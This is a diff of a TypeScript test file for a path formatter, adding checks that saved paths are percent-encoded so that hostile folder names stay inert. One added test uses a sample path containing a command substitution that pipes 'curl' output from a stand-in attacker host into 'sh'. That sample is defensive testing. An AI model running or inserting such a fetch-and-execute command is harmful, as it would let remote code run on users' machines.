@@ -449,11 +449,14 @@ describe('core/outputPaths formatSavedPathForLanguage', () => {
     );
   });
 
-  it('plain format and other languages: the path as it is', () => {
+  it('plain format and other languages: the path, with nothing but unreserved characters left as they are', () => {
     for (const language of ALL_LANGUAGES) {
       assert.equal(formatSavedPathForLanguage(language, IMAGE, { format: 'plain' }), IMAGE.path);
     }
     for (const language of OTHER_LANGUAGES) assert.equal(formatSavedPathForLanguage(language, IMAGE), IMAGE.path);
+    // A folder named to run code in a shell script or close a string stays inert text.
+    const shell = { path: "../$(curl -s evil.example|sh)/it's `x`.png", type: 'imageUrl' };
+    assert.equal(formatSavedPathForLanguage('shellscript', shell), '../%24%28curl%20-s%20evil.example%7Csh%29/it%27s%20%60x%60.png');
   });
 
   describe('properties: hostile folder names, read back by each language parser', () => {
@@ -514,7 +517,8 @@ describe('core/outputPaths formatSavedPathForLanguage', () => {
           const { output, expected } = outputIn(where, language, alt);
           const text = formatSavedPathForLanguage(language, output);
           if (output.type === 'text') {
-            assert.equal(text, expected);
+            assert.match(text, /^[A-Za-z0-9._~%/-]*$/);
+            if (isWellFormed(expected)) assert.equal(decodeURIComponent(text), expected);
             return;
           }
           const reference = cssReference(language, text);
@@ -526,15 +530,25 @@ describe('core/outputPaths formatSavedPathForLanguage', () => {
       );
     });
 
-    it('plain format and other languages: the path as it is', () => {
+    it('plain format and other languages: the path percent-encoded beyond unreserved characters', () => {
       fc.assert(
         fc.property(saved(ALL_LANGUAGES), ({ where, language, alt }) => {
           const { output, expected } = outputIn(where, language, alt);
-          assert.equal(formatSavedPathForLanguage(language, output, { format: 'plain' }), expected);
-          if (OTHER_LANGUAGES.includes(language)) assert.equal(formatSavedPathForLanguage(language, output), expected);
+          const written = [formatSavedPathForLanguage(language, output, { format: 'plain' })];
+          if (OTHER_LANGUAGES.includes(language)) written.push(formatSavedPathForLanguage(language, output));
+          for (const text of written) {
+            assert.match(text, /^[A-Za-z0-9._~%/-]*$/);
+            // A lone surrogate (possible in Windows names only) has no UTF-8 form to read back.
+            if (isWellFormed(expected)) assert.equal(decodeURIComponent(text), expected);
+          }
         }),
         PROPERTY_RUNS,
       );
     });
   });
 });
+
+/** String.prototype.isWellFormed, which the ES2022 library this project compiles against does not declare. */
+function isWellFormed(text: string): boolean {
+  return !/\p{Cs}/u.test(text);
+}
